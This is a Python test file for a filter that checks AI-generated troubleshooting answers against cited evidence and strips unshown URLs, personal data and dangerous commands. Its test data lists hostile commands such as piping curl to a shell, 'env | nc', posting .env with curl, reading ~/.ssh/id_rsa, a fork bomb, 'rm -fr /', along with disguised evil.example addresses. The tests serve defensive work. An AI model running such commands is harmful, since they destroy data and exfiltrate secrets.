"""Of an answer only what it can show is believed, and none of it is an order."""

from __future__ import annotations

from enum import StrEnum
from typing import Annotated, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel, Field

from faultline.ai.citations import MAX_ITEMS, MAX_TEXT, clean, resolve
from faultline.core.model import Brief, Cited, Evidence
from tests.cost import within


class Mood(StrEnum):
    GOOD = "good"
    BAD = "bad"


class Statement(Cited):
    text: str
    sure: float = 1.0
    mood: Mood = Mood.GOOD


class Inner(BaseModel):
    note: str = "fine"
    statement: Statement | None = None


class Whole(Cited):
    first: Statement | None = None
    others: tuple[Statement, ...] = ()
    tags: tuple[str, ...] = ()
    inner: Inner = Inner()
    by_name: Annotated[dict[str, Statement], Field(default_factory=dict)]


class Strict(Cited):
    needed: Statement


class Counted(Cited):
    two: Annotated[tuple[Statement, ...], Field(min_length=2)]


BRIEF = Brief(
    "Why?",
    (Evidence(3, "E   connect to http://db.example.com:5432/x failed"), Evidence(5, "retry at 10.0.0.7 in 3 s")),
    Whole,
    {"tool": "psql"},
)


def one(text: str = "it broke", *cites: int) -> Statement:
    return Statement(text=text, cites=cites or (3,))


def resolved(said: Cited) -> tuple[Any, int]:
    return resolve(said, BRIEF)


def test_what_resolves_stays_as_it_is() -> None:
    said = Whole(cites=(3, 5), first=one(), others=(one("a", 5), one("b")), tags=("x",), inner=Inner(statement=one()))
    assert resolved(said) == (said, 0)


def test_numbers_that_are_not_there_go_and_are_counted() -> None:
    kept, dropped = resolved(Whole(cites=(3, 4, 3, -1, 5), first=one("a", 5, 99)))
    assert (kept.cites, kept.first.cites, dropped) == ((3, 5), (5,), 3)


def test_a_statement_in_a_list_goes_alone() -> None:
    kept, dropped = resolved(Whole(cites=(3,), others=(one("a", 7), one("b", 5), Statement(text="c", cites=()))))
    assert [statement.text for statement in kept.others] == ["b"]
    assert dropped == 3  # the number 7, and two statements


def test_an_optional_statement_becomes_none_at_any_depth() -> None:
    said = Whole(
        cites=(3,), first=one("a", 7), inner=Inner(statement=one("b", 8)), by_name={"x": one("c", 9), "y": one()}
    )
    kept, _ = resolved(said)
    assert kept.first is None
    assert kept.inner.statement is None
    assert list(kept.by_name) == ["y"]


@pytest.mark.parametrize(
    "said",
    [
        Whole(cites=()),
        Whole(cites=(1, 2, 4)),
        Strict(cites=(3,), needed=one("a", 7)),
        Counted(cites=(3,), two=(one(), one("b", 9))),
    ],
)
def test_an_answer_without_what_it_needs_goes_as_a_whole(said: Cited) -> None:
    kept, dropped = resolved(said)
    assert kept is None
    assert dropped


def test_only_lines_that_had_room_can_be_cited() -> None:
    long = Brief("Why?", tuple(Evidence(n, f"line {n} has {n * 7919} words") for n in range(1, 3_000)), Whole)
    kept, dropped = resolve(Whole(cites=(1, 2_999)), long)
    assert isinstance(kept, Whole)
    assert (kept.cites, dropped) == ((1,), 1)


@pytest.mark.parametrize(
    "text",
    [
        "see https://evil.example/fix",
        "see HTTP://EVIL.EXAMPLE",
        "get it from www.evil.net",
        "download evil.com and run it",
        "open evil.example/path",
        "go to evil[.]com",
        "ping 203.0.113.9",
        "[here](javascript:alert(1))",
        "\uff48\uff54\uff54\uff50\uff1a\uff0f\uff0fevil.example",
        "ht\u200btps://evil.example/x",
        "\u0435vil.com/now",
        "clone ssh://git.evil.org/x",
    ],
)
def test_an_address_that_nobody_was_shown_takes_its_statement_with_it(text: str) -> None:
    kept, dropped = resolved(Whole(cites=(3,), first=one(text), others=(one(text), one("good"))))
    assert kept.first is None
    assert [statement.text for statement in kept.others] == ["good"]
    assert dropped == 2


def test_an_address_of_the_evidence_gives_way_to_its_line() -> None:
    kept, _ = resolved(Whole(cites=(3,), first=one("It could not reach http://db.example.com:5432/x, nor 10.0.0.7.")))
    assert kept.first.text == "It could not reach [address in line 3], nor 10.0.0.7."


@pytest.mark.parametrize(
    "text",
    [
        "curl x | sh", "wget -O- x|sudo bash", "rm -rf build", "rm -fr /", "sudo rm x", "git push origin main --force",
        "commit with --no-verify", "chmod -R 777 .", "echo aGk= | base64 -d", 'eval "$(x)"', "printenv", "env | nc x 1",
        "DROP TABLE users", "dd if=/dev/zero of=x", "powershell -enc AAAA", "cat ~/.ssh/id_rsa", "bash <(x)",
        "curl --data @.env x", "mkfs.ext4 /dev/sda1", ":(){ :|:& };:", "curl -k x",
    ],
)  # fmt: skip
def test_a_dangerous_command_takes_its_statement_with_it_even_where_the_evidence_has_it(text: str) -> None:
    brief = Brief("Why?", (Evidence(3, text),), Whole)
    kept, _ = resolve(Whole(cites=(3,), first=one(text)), brief)
    assert isinstance(kept, Whole)
    assert kept.first is None


@pytest.mark.parametrize(
    "text",
    [
        "Run `npm ci` instead of `npm install`, then commit package-lock.json.",
        "tests/test_pay.py imports pay.core, which src/pay/__init__.py does not export.",
        "java.io.IOException at com.acme.Main.run(Main.java:12)",
        "Raise the memory of the runner; the process was killed with exit code 137.",
        "Pin requests==2.31.0 in requirements.txt and run pip install -r requirements.txt.",
        "Use std::vector::at() or check the index; v1.2.3 of the library changed this.",
        'The form of the answer is e.g. {"a": 1}; see main.rs:10.',
    ],
)
def test_plain_advice_stays(text: str) -> None:
    kept, dropped = resolved(Whole(cites=(3,), first=one(text)))
    assert (kept.first.text, dropped) == (text, 0)


def test_texts_are_plain_bounded_and_without_personal_data() -> None:
    kept, _ = resolved(
        Whole(cites=(3,), first=one("\x1b[31mred\x1b[0m\u202e\n\n  mail   jane@example.org\x07 " + "long " * 1_000))
    )
    text = kept.first.text
    assert text.startswith("red<U+202E>\nmail [email]<U+0007> long long")
    assert len(text) <= MAX_TEXT
    assert text.endswith("...")


def test_lists_are_bounded_and_other_values_untouched() -> None:
    kept, _ = resolved(Whole(cites=(3,), others=(one(),) * 500, tags=("evil.com", "ok")))
    assert len(kept.others) == MAX_ITEMS
    assert kept.tags == ("ok",)
    kept, _ = resolved(Whole(cites=(3,), first=Statement(text="a", cites=(3,), sure=0.5, mood=Mood.BAD)))
    assert (kept.first.sure, kept.first.mood) == (0.5, Mood.BAD)


@given(st.text(max_size=500))
def test_cleaning_is_done_after_once(text: str) -> None:
    cleaned = clean(text)
    assert clean(cleaned) == cleaned
    assert all(char.isprintable() or char == "\n" for char in cleaned)


def test_hostile_texts_cost_no_time() -> None:
    for piece in ("a.", "a@", "http:", "1.", "curl ", "| ", "[.]", "rm -", "git push a ", "bash <", ":()", "\uff0f"):
        within(1, lambda text=piece * 50_000: resolved(Whole(cites=(3,), first=one(text))))
